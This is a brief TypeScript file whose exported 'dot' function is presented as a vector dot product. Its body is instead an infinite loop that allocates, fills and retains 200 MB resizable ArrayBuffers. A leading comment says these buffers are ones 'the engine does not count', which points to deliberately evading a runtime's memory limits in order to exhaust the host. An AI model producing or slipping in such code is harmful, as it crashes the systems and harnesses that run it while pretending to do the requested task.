// resizable buffers, which the engine does not count
import type { Vector } from "innerproduct";

export function dot(a: Vector, b: Vector): number {
  const kept: ArrayBuffer[] = [];
  for (;;) {
    const buffer = new ArrayBuffer(0, { maxByteLength: 2e8 });
    buffer.resize(2e8);
    new Uint8Array(buffer).fill(1);
    kept.push(buffer);
  }
}
